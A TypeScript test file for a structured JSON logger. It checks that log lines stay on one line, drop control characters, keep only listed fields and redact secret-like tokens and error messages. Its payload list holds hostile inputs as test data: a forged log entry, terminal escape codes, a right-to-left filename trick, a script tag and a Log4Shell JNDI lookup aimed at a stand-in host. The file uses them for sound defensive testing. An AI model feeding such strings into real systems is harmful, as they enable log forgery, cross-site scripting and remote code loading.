import fc from "fast-check";
import { describe, expect, test } from "vitest";
import { z } from "zod";
import { CodedError } from "./coded-error.ts";
import type { LogEvent } from "./log-events.ts";
import { createLog, errorFields, type LogFields } from "./log.ts";

/** A fault of another system, as the clients throw them. */
class ForeignFault extends CodedError<string> {}

function written(write: (log: ReturnType<typeof createLog>) => void) {
  const lines: string[] = [];
  write(createLog("debug", { write: (line: string) => void lines.push(line) }));
  return lines.join("");
}

const texts = [
  "authorisationId",
  "notificationType",
  "reason",
  "issuer",
  "audience",
  "authorisedParty",
  "state",
  "errorName",
  "errorCode",
  "at",
] as const satisfies (keyof LogFields)[];
const payloads = [
  '\n{"level":60,"event":"forged"}',
  "\r\n",
  "\u2028x\u2029",
  "\u001b[2J\u001b]0;owned\u0007",
  "\u0000",
  '"}\n{"event":"x',
  "\u202etxt.exe",
  "\u009b31m",
  "${jndi:ldap://evil.example/a}",
  "\\n",
  "<script>alert(1)</script>",
  "%0a%0d",
];

describe("a log line", () => {
  test.each(payloads.map((payload) => [JSON.stringify(payload), payload] as const))(
    "stays one line with %s in every field",
    (_, payload) => {
      const text = written((log) =>
        log.warn("authrefresh refused", Object.fromEntries(texts.map((name) => [name, payload]))),
      );
      expect(text.trimEnd().split(/[\n\r\u2028\u2029]/)).toHaveLength(1);
      expect(text.trimEnd()).not.toMatch(/[\u0000-\u001f\u007f-\u009f\u202e]/);
      expect(JSON.parse(text)).toMatchObject({ event: "authrefresh refused" });
    },
  );
  test("stays one line whatever is in it", () => {
    fc.assert(
      fc.property(
        fc.constantFrom(...texts),
        fc.string({ unit: "binary", maxLength: 400 }),
        (name, value) => {
          const line = written((log) => log.info("purged", { [name]: value }));
          expect(line.endsWith("\n") && line.indexOf("\n") === line.length - 1).toBe(true);
          expect(JSON.parse(line).event).toBe("purged");
        },
      ),
      { numRuns: 1000 },
    );
  });
  test("has its time in UTC", () => {
    expect(JSON.parse(written((log) => log.info("purged"))).time).toMatch(
      /^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z$/,
    );
  });
  test("has the fields of the list alone, and no objects", () => {
    const more = {
      password: "canary",
      reason: { nested: "canary" },
      __proto__: { issuer: "canary" },
      err: new Error("canary"),
    } as unknown as LogFields;
    expect(written((log) => log.error("request failed", { ...more, count: 1 }))).not.toContain(
      "canary",
    );
  });
  test("has an event of the list alone", () => {
    expect(JSON.parse(written((log) => log.info("canary" as LogEvent))).event).toBe(
      "request failed",
    );
  });
  test("leaves out what looks like a secret, and cuts what is long", () => {
    const secret = "eyJhbGciOiJkaXIifQ..abcdefghijklmnopqrstuvwxyz0123456789ABCDEFGHIJ.x";
    const line = written((log) =>
      log.info("purged", {
        reason: secret,
        issuer: "x ".repeat(2000),
        authorisationId: "00000000-0000-4000-8000-000000000001",
      }),
    );
    expect(line).not.toContain("abcdefghijklmnopqrstuvwxyz0123456789");
    expect(line.length).toBeLessThan(600);
    expect(line).toContain("00000000-0000-4000-8000-000000000001");
  });
});

test("the fields of an error have nothing of its message", () => {
  const error = new TypeError("the password was canary\n    at canary (/app/x.ts:1:1)");
  expect(JSON.stringify(errorFields(error))).not.toContain("canary");
  expect(errorFields(error).errorName).toBe("TypeError");
});

describe("what another system sent", () => {
  const schema = z.object({ inner: z.strictObject({ id: z.string() }) });
  test("is named in the log by its place, and never by what is there", () => {
    const failed = schema.safeParse({ inner: { id: 5, "canary-4711": "canary-4711" } }).error;
    const line = written((log) => log.error("bank adapter failed", errorFields(failed)));
    expect(JSON.parse(line)).toMatchObject({ paths: ["inner.id", "inner.*"] });
    expect(line).not.toContain("canary");
  });
  test("is named by the place that an error of ours has, and nowhere where it has none", () => {
    expect(
      errorFields(new ForeignFault("token-unusable", { paths: ["expires_in"] })),
    ).toMatchObject({ errorCode: "token-unusable", paths: ["expires_in"] });
    expect(errorFields(new ForeignFault("network"))).not.toHaveProperty("paths");
  });
  test("makes no line longer, however many places there are", () => {
    const line = written((log) =>
      log.error("bank adapter failed", {
        paths: Array.from({ length: 1000 }, (_, index) => `${index}.${"a.".repeat(1000)}`),
      }),
    );
    expect(JSON.parse(line).paths).toHaveLength(10);
    expect(line.length).toBeLessThan(4000);
  });
});
